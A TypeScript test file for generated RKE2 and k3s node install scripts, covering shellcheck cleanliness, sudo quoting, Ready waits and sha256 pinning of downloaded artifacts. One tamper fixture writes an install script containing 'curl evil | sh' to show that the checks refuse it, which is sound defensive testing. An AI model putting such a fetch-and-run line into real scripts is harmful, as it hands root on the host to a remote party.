import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import {
  renderNodeConfig,
  scripts,
  type BareMetalClusterArgs,
} from "../../../../../components/cluster/baremetal";
import { node, resolve } from "./fixtures";

const PIN_SCRIPT = "a".repeat(64);
const PIN_SUMS = "b".repeat(64);
const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");

/**
 * shellcheck findings for many scripts in one run ("" when clean); fails loudly when shellcheck is
 * not installed. Files are named after the scripts so a finding says which one.
 */
function shellcheck(all: Map<string, string>): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), "baremetal-scripts-"));
  try {
    const files = [...all].map(([name, text]) => {
      const file = path.join(dir, `${name.replace(/[^A-Za-z0-9.-]+/g, "_")}.sh`);
      writeFileSync(file, text);
      return file;
    });
    const r = spawnSync("shellcheck", ["--shell=bash", "--format=gcc", ...files], { encoding: "utf8" });
    if (r.error && (r.error as NodeJS.ErrnoException).code === "ENOENT")
      throw new Error(
        "shellcheck is not installed: run `apt-get install -y shellcheck` (Debian package), then rerun the tests",
      );
    if (r.error) throw r.error;
    return r.stdout.replaceAll(dir + path.sep, "").trim();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe("scripts", () => {
  const variants: [string, Partial<BareMetalClusterArgs>][] = [
    ["rke2 online", {}],
    [
      "rke2 air-gapped from a mirror, CIS",
      { cis: true, install: { mode: "airgap", mirrorUrl: "https://mirror.example.net/rke2/{version}/" } },
    ],
    ["rke2 air-gapped from a folder", { install: { mode: "airgap", artifactsDir: "./artifacts" } }],
    [
      "rke2 air-gapped, pinned",
      {
        install: {
          mode: "airgap",
          mirrorUrl: "https://mirror.example.net/rke2/{version}",
          scriptSha256: PIN_SCRIPT,
          checksumsSha256: PIN_SUMS,
        },
      },
    ],
    ["k3s online", { distribution: "k3s", version: "v1.31.4+k3s1" }],
    [
      "k3s online, pinned",
      { distribution: "k3s", version: "v1.31.4+k3s1", install: { scriptSha256: PIN_SCRIPT } },
    ],
    [
      "k3s air-gapped arm64",
      {
        distribution: "k3s",
        version: "v1.31.4+k3s1",
        install: { mode: "airgap", mirrorUrl: "https://m.example.net", arch: "arm64" },
      },
    ],
  ];

  it("every script of every variant starts with set -euo pipefail and passes shellcheck", () => {
    const all = new Map<string, string>();
    const seen = new Set<string>();
    for (const [variant, patch] of variants) {
      const c = resolve(patch);
      for (const n of c.nodes) {
        const named = {
          config: scripts.configScript(c, n, renderNodeConfig(c, n)),
          stage: scripts.stageScript(c),
          install: scripts.installScript(c, n),
          ready: scripts.readyScript(c, n),
          kubeconfig: scripts.kubeconfigScript(c),
          drain: scripts.drainScript(c, n),
          uninstall: scripts.uninstallScript(c, n),
          marker: scripts.markerScript(`${n.key} it's managed`),
          anchorCreate: scripts.anchorCreateScript(
            scripts.anchorFile("drain", n.key),
            `${n.key} it's managed`,
          ),
          anchorUninstall: scripts.anchorDeleteScript(
            scripts.anchorFile("uninstall", n.key),
            scripts.uninstallScript(c, n),
          ),
          anchorDrain: scripts.anchorDeleteScript(
            scripts.anchorFile("drain", n.key),
            scripts.drainScript(c, n),
          ),
          sudo: scripts.asRoot(scripts.installScript(c, n), "ubuntu"),
        };
        for (const [name, text] of Object.entries(named))
          if (!seen.has(text)) all.set(`${variant} ${n.key} ${name}`, text);
        for (const text of Object.values(named)) seen.add(text);
      }
    }
    expect(all.size).toBeGreaterThan(100);
    for (const [name, text] of all) expect([name, text.split("\n")[0]]).toEqual([name, "set -euo pipefail"]);
    expect(shellcheck(all)).toBe("");
  });

  it("the shellcheck helper reports findings (so a clean result means something)", () => {
    expect(shellcheck(new Map([["bad", "set -euo pipefail\necho $1\n"]]))).toMatch(
      /^bad\.sh:2:6: note: Double quote to prevent globbing and word splitting\. \[SC2086\]$/,
    );
  });

  it("runs as root directly and through sudo -n for another user, the body quoted intact", () => {
    const body = "set -euo pipefail\necho 'it''s'";
    expect(scripts.asRoot(body, "root")).toBe(body);
    const wrapped = scripts.asRoot(body, "ubuntu");
    expect(wrapped).toBe(
      `set -euo pipefail\nexec sudo -n -- bash -c 'set -euo pipefail\necho '\\''it'\\'''\\''s'\\'''`,
    );
    const r = spawnSync("bash", ["-c", wrapped.replace("exec sudo -n -- bash -c", "printf %s")], {
      encoding: "utf8",
    });
    expect(r.stdout).toBe(body);
  });

  it("installs the pinned version only when another is installed, and restarts only on a version or config change", () => {
    const c = resolve();
    const text = scripts.installScript(c, node(c, "a1"));
    expect(text).toContain("version='v1.31.4+rke2r1'");
    expect(text).toContain(`installed="$(rke2 --version 2>/dev/null | awk 'NR==1 {print $3}' || true)"`);
    expect(text).toContain(`INSTALL_RKE2_VERSION="$version" INSTALL_RKE2_TYPE='agent' sh "$installer"`);
    expect(text).toContain("curl -sfL --retry 3 -o \"$installer\" 'https://get.rke2.io'");
    expect(text).toContain(`want="$version $(sha256sum '/etc/rancher/rke2/config.yaml' | cut -d' ' -f1)"`);
    expect(text).toContain('if ! timeout 600 systemctl restart "$service"; then');
    expect(text).toContain(
      `echo "$service did not start within 600s; check 'journalctl -u $service' on this node" >&2`,
    );
  });

  it("air-gapped from a mirror: downloads each artifact of the version, then installs from the folder", () => {
    const c = resolve({
      install: { mode: "airgap", mirrorUrl: "https://mirror.example.net/rke2/{version}/" },
    });
    const text = scripts.installScript(c, node(c, "s1"));
    expect(text).toContain(
      "for f in 'install.sh' 'rke2.linux-amd64.tar.gz' 'sha256sum-amd64.txt' 'rke2-images.linux-amd64.tar.zst'; do",
    );
    expect(text).toContain(
      `curl -sfL --retry 3 -o "$artifacts/$f" 'https://mirror.example.net/rke2/v1.31.4+rke2r1'"/$f"`,
    );
    expect(text).toContain(
      `INSTALL_RKE2_ARTIFACT_PATH="$artifacts" INSTALL_RKE2_TYPE='server' sh "$artifacts/install.sh"`,
    );
    expect(text).not.toContain("get.rke2.io");
  });

  it("k3s air-gapped: installs the binary and skips the download and the start", () => {
    const c = resolve({
      distribution: "k3s",
      version: "v1.31.4+k3s1",
      install: { mode: "airgap", artifactsDir: "./a" },
    });
    const text = scripts.installScript(c, node(c, "a1"));
    expect(text).toContain(`install -m 0755 "$artifacts/"'k3s' /usr/local/bin/k3s`);
    expect(text).toContain(
      `INSTALL_K3S_SKIP_DOWNLOAD=true INSTALL_K3S_EXEC='agent' INSTALL_K3S_SKIP_START=true sh "$artifacts/install.sh"`,
    );
  });

  it("online with a pinned script: the node checks the download before running it", () => {
    const c = resolve({ install: { scriptSha256: PIN_SCRIPT.toUpperCase() } });
    const text = scripts.installScript(c, node(c, "a1"));
    expect(text).toContain(
      [
        '  installer="$(mktemp)"',
        "  curl -sfL --retry 3 -o \"$installer\" 'https://get.rke2.io'",
        `  verify_sha256 "$installer" '${PIN_SCRIPT}' 'https://get.rke2.io' 'install.scriptSha256'`,
        `  INSTALL_RKE2_VERSION="$version" INSTALL_RKE2_TYPE='agent' sh "$installer"`,
        '  rm -f "$installer"',
      ].join("\n"),
    );
    expect(scripts.installScript(resolve(), node(c, "a1"))).not.toContain('verify_sha256 "$installer"');
  });

  it("air-gapped: the pinned checksum file, the pinned install.sh, then every other artifact against the checksum file, before installing", () => {
    const c = resolve({
      install: {
        mode: "airgap",
        mirrorUrl: "https://mirror.example.net/rke2/{version}/",
        scriptSha256: PIN_SCRIPT,
        checksumsSha256: PIN_SUMS,
      },
    });
    const text = scripts.installScript(c, node(c, "s1"));
    expect(text).toContain(
      [
        "  sums=\"$artifacts/\"'sha256sum-amd64.txt'",
        `  verify_sha256 "$sums" '${PIN_SUMS}' "$origin/"'sha256sum-amd64.txt' 'install.checksumsSha256'`,
        `  verify_sha256 "$artifacts/install.sh" '${PIN_SCRIPT}' "$origin/install.sh" 'install.scriptSha256'`,
        "  for f in 'rke2.linux-amd64.tar.gz' 'rke2-images.linux-amd64.tar.zst'; do",
        `    expected="$(awk -v f="$f" '$2 == f || $2 == "*" f {print $1; exit}' "$sums")"`,
        '    if [ -z "$expected" ]; then echo "$origin/sha256sum-amd64.txt lists no sha256 for $f: use the checksum file of release $version" >&2; exit 1; fi',
        `    verify_sha256 "$artifacts/$f" "$expected" "$origin/$f" 'sha256sum-amd64.txt'`,
        "  done",
        "  install -d -m 0755 '/var/lib/rancher/rke2/agent/images'",
      ].join("\n"),
    );
    expect(text).toContain("  origin='https://mirror.example.net/rke2/v1.31.4+rke2r1'");
    expect(text.indexOf('verify_sha256 "$artifacts/$f"')).toBeLessThan(
      text.indexOf('sh "$artifacts/install.sh"'),
    );
    const k3s = resolve({
      distribution: "k3s",
      version: "v1.31.4+k3s1",
      install: { mode: "airgap", artifactsDir: "./a/", arch: "arm64" },
    });
    const k3sText = scripts.installScript(k3s, node(k3s, "a1"));
    expect(k3sText).toContain("  origin='./a'");
    expect(k3sText).toContain("for f in 'k3s-arm64' 'k3s-airgap-images-arm64.tar.zst'; do");
    expect(k3sText).not.toContain('verify_sha256 "$sums"');
  });

  describe("the checksum checks, run on fake artifacts", () => {
    /**
     * Runs the rendered checks of a pinned air-gapped RKE2 install (the lines from `sums=` to the
     * loop's end, with verify_sha256) on a folder holding `files`.
     */
    const runChecks = (files: Record<string, string>, pins: { script: string; sums: string }) => {
      const dir = mkdtempSync(path.join(os.tmpdir(), "artifacts-"));
      try {
        for (const [f, text] of Object.entries(files)) writeFileSync(path.join(dir, f), text);
        const c = resolve({
          install: {
            mode: "airgap",
            mirrorUrl: "https://mirror.example.net/rke2/{version}",
            scriptSha256: pins.script,
            checksumsSha256: pins.sums,
          },
        });
        const lines = scripts.installScript(c, node(c, "s1")).split("\n");
        const from = lines.findIndex((l) => l.startsWith("  sums="));
        const to = lines.findIndex((l, i) => i > from && l === "  done");
        const verify = lines.slice(
          lines.indexOf("verify_sha256() {"),
          lines.indexOf("}", lines.indexOf("verify_sha256() {")) + 1,
        );
        const script = [
          "set -euo pipefail",
          ...verify,
          `artifacts=${scripts.shq(dir)}`,
          "origin='https://mirror.example.net/rke2/v1.31.4+rke2r1'",
          "version='v1.31.4+rke2r1'",
          ...lines.slice(from, to + 1),
        ].join("\n");
        const r = spawnSync("bash", ["-c", script], { encoding: "utf8" });
        return { status: r.status, stdout: r.stdout, stderr: r.stderr };
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    };
    const release = {
      "install.sh": "#!/bin/sh\necho install\n",
      "rke2.linux-amd64.tar.gz": "tarball",
      "rke2-images.linux-amd64.tar.zst": "images",
    };
    const sumsOf = (files: Record<string, string>) =>
      Object.entries(files)
        .map(([f, t]) => `${sha256(t)}  ${f}\n`)
        .join("");
    const good = {
      ...release,
      "sha256sum-amd64.txt": sumsOf({
        "rke2.linux-amd64.tar.gz": "tarball",
        "rke2-images.linux-amd64.tar.zst": "images",
      }),
    };
    const pins = { script: sha256(release["install.sh"]), sums: sha256(good["sha256sum-amd64.txt"]) };
    const URL = "https://mirror.example.net/rke2/v1.31.4+rke2r1";

    it("passes a release that matches its pins", () => {
      expect(runChecks(good, pins)).toEqual({
        status: 0,
        stdout: [
          `sha256 of ${URL}/sha256sum-amd64.txt matches install.checksumsSha256`,
          `sha256 of ${URL}/install.sh matches install.scriptSha256`,
          `sha256 of ${URL}/rke2.linux-amd64.tar.gz matches sha256sum-amd64.txt`,
          `sha256 of ${URL}/rke2-images.linux-amd64.tar.zst matches sha256sum-amd64.txt`,
          "",
        ].join("\n"),
        stderr: "",
      });
    });

    it("refuses a tampered artifact, naming its URL, the expected and the actual digest", () => {
      const r = runChecks({ ...good, "rke2-images.linux-amd64.tar.zst": "evil" }, pins);
      expect(r.status).toBe(1);
      expect(r.stderr).toBe(
        `refusing to run ${URL}/rke2-images.linux-amd64.tar.zst as root: its sha256 is ${sha256("evil")}, expected ${sha256("images")} (sha256sum-amd64.txt); check the file at its source, then correct it or the pin\n`,
      );
    });

    it("refuses a checksum file or install script that does not match its pin", () => {
      const badSums = sumsOf({ "rke2.linux-amd64.tar.gz": "x" });
      const sums = runChecks({ ...good, "sha256sum-amd64.txt": badSums }, pins);
      expect(sums.status).toBe(1);
      expect(sums.stderr).toContain(
        `refusing to run ${URL}/sha256sum-amd64.txt as root: its sha256 is ${sha256(badSums)}, expected ${pins.sums} (install.checksumsSha256)`,
      );
      const script = runChecks({ ...good, "install.sh": "#!/bin/sh\ncurl evil | sh\n" }, pins);
      expect(script.status).toBe(1);
      expect(script.stderr).toContain(
        `refusing to run ${URL}/install.sh as root: its sha256 is ${sha256("#!/bin/sh\ncurl evil | sh\n")}, expected ${pins.script} (install.scriptSha256)`,
      );
    });

    it("refuses an artifact the checksum file does not list", () => {
      const sums = sumsOf({ "rke2.linux-amd64.tar.gz": "tarball" });
      const r = runChecks({ ...good, "sha256sum-amd64.txt": sums }, { ...pins, sums: sha256(sums) });
      expect(r.status).toBe(1);
      expect(r.stderr).toBe(
        `${URL}/sha256sum-amd64.txt lists no sha256 for rke2-images.linux-amd64.tar.zst: use the checksum file of release v1.31.4+rke2r1\n`,
      );
    });
  });

  it("waits for Ready on the pinned version (an upgrade is not done while the old kubelet still reports Ready), with a deadline and a clear failure message", () => {
    const c = resolve({ readyTimeout: 120 });
    const text = scripts.readyScript(c, node(c, "a2"));
    expect(text).toContain("timeout=120");
    expect(text).toContain("version='v1.31.4+rke2r1'");
    expect(text).toContain(
      `status="$(kubectl get node "$node" -o 'jsonpath={.status.conditions[?(@.type=="Ready")].status} {.status.nodeInfo.kubeletVersion}' 2>/dev/null || true)"`,
    );
    expect(text).toContain('if [ "$status" = "True $version" ]; then');
    expect(text).toContain(
      `echo "node $node did not report Ready with $version within \${timeout}s (status: \${status:-not registered}); check 'journalctl -u rke2-agent' on 10.0.1.22" >&2`,
    );
  });

  describe("the Ready wait, run against a fake k3s", () => {
    /** Runs the k3s Ready script for a1 with `k3s` answering `answer`; returns exit code and output. */
    const runReady = (answer: string, readyTimeout: number) => {
      const dir = mkdtempSync(path.join(os.tmpdir(), "fake-k3s-"));
      try {
        writeFileSync(
          path.join(dir, "k3s"),
          `#!/bin/sh\necho "$*" >>"${dir}/calls"\nprintf '%s' '${answer}'\n`,
          { mode: 0o755 },
        );
        const c = resolve({ distribution: "k3s", version: "v1.31.4+k3s1", readyTimeout });
        const r = spawnSync("bash", ["-c", scripts.readyScript(c, node(c, "a1"))], {
          encoding: "utf8",
          env: { ...process.env, PATH: `${dir}:${process.env.PATH}` },
        });
        const calls = readFileSync(path.join(dir, "calls"), "utf8").split("\n")[0];
        return { status: r.status, stdout: r.stdout, stderr: r.stderr, calls };
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    };

    it("succeeds once the node is Ready on the pinned version", () => {
      expect(runReady("True v1.31.4+k3s1", 600)).toEqual({
        status: 0,
        stdout: "node a1 is Ready and runs v1.31.4+k3s1\n",
        stderr: "",
        calls:
          'kubectl --kubeconfig /etc/rancher/k3s/k3s.yaml get node a1 -o jsonpath={.status.conditions[?(@.type=="Ready")].status} {.status.nodeInfo.kubeletVersion}',
      });
    });

    it("fails with the node, the status and the log to read when the deadline passes", () => {
      const r = runReady("True v1.30.2+k3s1", 0);
      expect(r.status).toBe(1);
      expect(r.stderr.split("\n")[0]).toBe(
        "node a1 did not report Ready with v1.31.4+k3s1 within 0s (status: True v1.30.2+k3s1); check 'journalctl -u k3s-agent' on 10.0.1.21",
      );
    });
  });

  it("a removal anchor undoes nothing on a replacement (new holder first) and runs its body on a removal", () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), "anchor-"));
    try {
      const file = path.join(dir, "anchors", "uninstall-a1");
      const sh = (script: string) => spawnSync("bash", ["-c", script], { encoding: "utf8" }).stdout;
      const create = scripts.anchorCreateScript(file, "a1 is managed");
      const del = scripts.anchorDeleteScript(file, "set -euo pipefail\necho UNINSTALLED");
      expect(sh(create)).toBe("a1 is managed\n");
      expect(sh(create)).toBe("a1 is managed\n"); // the replacement's create
      expect(sh(del)).toBe("replaced, not removed: nothing to undo\n"); // the replaced one's delete
      expect(readFileSync(file, "utf8")).toBe("1\n");
      expect(sh(del)).toBe("UNINSTALLED\n"); // the node is removed
      expect(sh(del)).toBe("UNINSTALLED\n"); // idempotent, also for a node set up before the count existed
      expect(() => scripts.anchorDeleteScript(file, "echo no header")).toThrow(
        "anchor bodies start with set -euo pipefail",
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("the token reaches the node on stdin, into a 0600 file, never on a command line", () => {
    const c = resolve();
    const text = scripts.configScript(c, node(c, "s2"), renderNodeConfig(c, node(c, "s2")));
    expect(text).toContain("umask 077");
    expect(text).toContain('cat >"$tmp"');
    expect(text).toContain('mv -f "$tmp" "$token_file"');
  });

  it("drains through the first server and uninstalls with the distribution's script", () => {
    const c = resolve({ distribution: "k3s", version: "v1.31.4+k3s1", drainTimeout: 60 });
    expect(scripts.drainScript(c, node(c, "a1"))).toContain(
      'kubectl drain "$node" --ignore-daemonsets --delete-emptydir-data --timeout=60s',
    );
    expect(scripts.uninstallScript(c, node(c, "a1"))).toContain(
      "for script in '/usr/local/bin/k3s-agent-uninstall.sh' '/usr/bin/k3s-agent-uninstall.sh'; do",
    );
    expect(scripts.uninstallScript(c, node(c, "s1"))).toContain("'/usr/local/bin/k3s-uninstall.sh'");
  });
});
